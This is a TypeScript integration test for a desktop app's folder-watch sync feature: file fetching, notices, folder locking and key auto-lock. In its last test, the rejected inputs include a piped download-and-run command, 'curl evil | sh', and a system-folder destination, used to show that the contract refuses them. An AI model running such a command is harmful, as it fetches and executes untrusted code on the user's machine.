// "Keep this folder in sync" through the contract, as the window drives it: the watch workflow on the download
// folder against the demo server, its state and notices as the window and the tray get them, and the key kept
// unlocked only while watching.
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { KeyState, WatchNotice, WatchStateView } from '../../../src/shared/ipc'
import { acquireSyncLock } from '../../../src/main/downloads/lock'
import type { Backend } from '../../../src/main/desktop/backend'
import type { DemoServerHandle } from '../../../src/demo-server'
import { startTestBackend } from '../../helpers/backend'
import { startTestDemoServer } from '../../helpers/demo-server'

let dir: string
let demo: DemoServerHandle
let backend: Backend
let notices: WatchNotice[]

async function ok<T>(name: string, args?: unknown): Promise<T> {
  const result = await backend.dispatch(name, args)
  if (!result.ok) throw new Error(`${name}: ${result.error.code}`)
  return result.value as T
}

async function refused(name: string, args?: unknown): Promise<{ code: string; message: string }> {
  const result = await backend.dispatch(name, args)
  if (result.ok) throw new Error(`${name} was expected to fail`)
  return result.error
}

async function until(check: (state: WatchStateView) => boolean, what: string): Promise<WatchStateView> {
  for (let i = 0; i < 800; i++) {
    const state = await ok<WatchStateView>('getWatchState')
    if (check(state)) return state
    await new Promise((resolve) => setTimeout(resolve, 25))
  }
  throw new Error(`timed out waiting for ${what}`)
}

async function setUp(options: { folder?: boolean; unlock?: boolean } = {}): Promise<void> {
  const started = await startTestBackend(dir, demo, { watchIntervalMs: 300 })
  backend = started.backend
  const dialogs = started.dialogs
  backend.events.subscribe((name, payload) => {
    if (name === 'watchNotice') notices.push(payload as WatchNotice)
  })
  if (options.folder ?? true) {
    // Picked in main's dialog, then kept as the download folder (the window cannot name a folder by itself).
    await mkdir(join(dir, 'out'))
    dialogs.answer('folder', join(dir, 'out'))
    await ok('chooseFolder')
    await ok('updateSettings', { downloadDir: join(dir, 'out') })
  }
  await ok('useDemoSigner')
  await ok('signInWithWallet')
  if (options.unlock ?? true) await ok('unlockKey')
}

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'app-watch-'))
  demo = await startTestDemoServer()
  notices = []
})

afterEach(async () => {
  await backend?.close()
  await demo.close()
  await rm(dir, { recursive: true, force: true })
})

describe('keeping the download folder in sync from the app', () => {
  it('fetches what is there, then a file published later, says so, and gives the key back to auto-lock on stop', async () => {
    await setUp()
    const started = await ok<WatchStateView>('startWatch', { keepUnlocked: true })
    expect(started).toMatchObject({ state: 'watching', destination: join(dir, 'out'), keepUnlocked: true, intervalMs: 300 })
    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBe(true)

    const first = await until((state) => state.lastCheckAt !== null, 'the first check')
    expect(first.round).toBe(520)
    expect(first.filesThisRound).toBeGreaterThan(0)
    expect(first.recent.some((line) => line.kind === 'new-file')).toBe(true)
    expect(notices.some((notice) => notice.kind === 'files-ready')).toBe(true)

    // A seller uploads to order 101 (round 520, the selling round) while the app watches.
    const content = 'id,prediction\nn1,0.25\n'
    await demo.addArtifact({ order: 101, objectName: 'late-upload.csv', content })
    const after = await until((state) => state.recent.some((line) => line.kind === 'new-file' && line.text.includes('late-upload.csv')), 'the late upload')
    const line = after.recent.find((entry) => entry.kind === 'new-file' && entry.text.includes('late-upload.csv'))!
    // The CLI's words: "new file  <path> (<size>, sha256 <hex>)".
    expect(line.text).toMatch(/^new file {2}\S+late-upload\.csv \(22 B, sha256 [0-9a-f]{64}\)$/)
    const relativePath = /^new file {2}(\S+) /.exec(line.text)![1]!
    expect(await readFile(join(dir, 'out', relativePath), 'utf8')).toBe(content)
    // An order with no file yet is reported once per round, and stays listed at every later check.
    await until((state) => state.recent.filter((entry) => entry.text.startsWith('check ')).length >= 3, 'a third check')
    expect((await ok<WatchStateView>('getWatchState')).waiting.map((order) => order.orderId)).toEqual([108])
    // The notice comes when the check ends, a moment after the file's report line.
    await until(() => notices.some((notice) => notice.body === relativePath), 'the notice')
    expect(notices.find((notice) => notice.body === relativePath)).toEqual({ kind: 'files-ready', title: 'A new file is ready', body: relativePath })

    // A manual sync of the same folder meanwhile is refused (the watch holds it), not run twice.
    expect((await refused('startDownloads', { destination: join(dir, 'out') })).code).toBe('SYNC_FOLDER_BUSY')

    const stopped = await ok<WatchStateView>('stopWatch')
    expect(stopped.state).toBe('off')
    expect(stopped.recent.length).toBeGreaterThan(0)
    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
  }, 60_000)

  it('without "keep unlocked", files for a key that locked itself wait, say so once, and come after an unlock', async () => {
    await setUp()
    await ok('startWatch', { keepUnlocked: false })
    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
    await until((state) => state.lastCheckAt !== null && !state.checking, 'the first check')
    await ok('lockKey')
    const content = 'id,prediction\nn2,0.75\n'
    await demo.addArtifact({ order: 101, objectName: 'while-locked.csv', content })
    const waiting = await until((state) => state.lastProblem?.code === 'VAULT_LOCKED', 'the files waiting for the key')
    expect(waiting.lastProblem!.message).toBe('1 file waits for your key, which locked itself.')
    expect(waiting.state).toBe('watching')
    // Told once, not at every check.
    await until((state) => state.recent.filter((line) => line.text.startsWith('1 file waits')).length >= 2, 'a second check')
    expect(notices.filter((notice) => notice.kind === 'key-locked')).toEqual([{ kind: 'key-locked', title: 'Files wait for your key', body: '1 file waits for your key, which locked itself.' }])

    await ok('unlockKey')
    // The file's line comes during the check; the problem clears when the check ends.
    const fetched = await until((state) => !state.checking && state.recent.some((line) => line.kind === 'new-file' && line.text.includes('while-locked.csv')), 'the file after the unlock')
    expect(fetched.lastProblem).toBeNull()
    const relativePath = /^new file {2}(\S+) /.exec(fetched.recent.find((line) => line.kind === 'new-file' && line.text.includes('while-locked.csv'))!.text)![1]!
    expect(await readFile(join(dir, 'out', relativePath), 'utf8')).toBe(content)
  }, 60_000)

  it('a folder another sync holds ends the watch with the reason, in the card and in a notice', async () => {
    await setUp()
    const held = await acquireSyncLock(join(dir, 'out'))
    try {
      await ok('startWatch', { keepUnlocked: true })
      const ended = await until((state) => state.state === 'off', 'the watch to end')
      expect(ended.lastProblem?.code).toBe('SYNC_FOLDER_BUSY')
      expect(ended.recent.at(-1)?.text).toBe('Stopped: Another sync is already writing to this folder.')
      expect(notices.at(-1)).toEqual({ kind: 'stopped', title: 'Syncing stopped', body: 'Another sync is already writing to this folder. Wait for it to finish, or stop it, then try again.' })
      // Auto-lock is back: the key was held only for the watch.
      expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
    } finally {
      await held.release()
    }
  })

  it('a double click on start starts one watch, which one stop ends', async () => {
    await setUp()
    const [first, second] = await Promise.all([ok<WatchStateView>('startWatch', { keepUnlocked: true }), ok<WatchStateView>('startWatch', { keepUnlocked: true })])
    expect([first.state, second.state]).toEqual(['watching', 'watching'])
    await until((state) => state.lastCheckAt !== null && !state.checking, 'the first check')
    // One watcher: the folder is not reported busy, and a single stop leaves it free for a sync by hand.
    const state = await ok<WatchStateView>('getWatchState')
    expect(state.lastProblem).toBeNull()
    expect(notices.filter((notice) => notice.kind === 'stopped')).toEqual([])
    expect((await ok<WatchStateView>('stopWatch')).state).toBe('off')
    const lock = await acquireSyncLock(join(dir, 'out'))
    await lock.release()
  }, 60_000)

  it('does not start without a download folder or with the key locked, and says what to do', async () => {
    await setUp({ folder: false, unlock: false })
    expect(await refused('startWatch', { keepUnlocked: false })).toMatchObject({ code: 'INVALID_ARGUMENT', message: expect.stringMatching(/download folder/) })
    expect((await ok<WatchStateView>('getWatchState')).state).toBe('off')
  })

  it('refuses to watch while the key is locked: each new file is decrypted as it arrives', async () => {
    await setUp({ unlock: false })
    expect(await refused('startWatch', { keepUnlocked: true })).toMatchObject({ code: 'VAULT_LOCKED', message: expect.stringMatching(/Unlock your key/) })
    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
  })

  it('the window cannot hand the watch a folder or a hook: the contract takes only the key choice', async () => {
    await setUp()
    expect((await refused('startWatch', { keepUnlocked: false, destination: '/etc' })).code).toBe('INVALID_ARGUMENT')
    expect((await refused('startWatch', { keepUnlocked: false, exec: 'curl evil | sh' })).code).toBe('INVALID_ARGUMENT')
  })
})
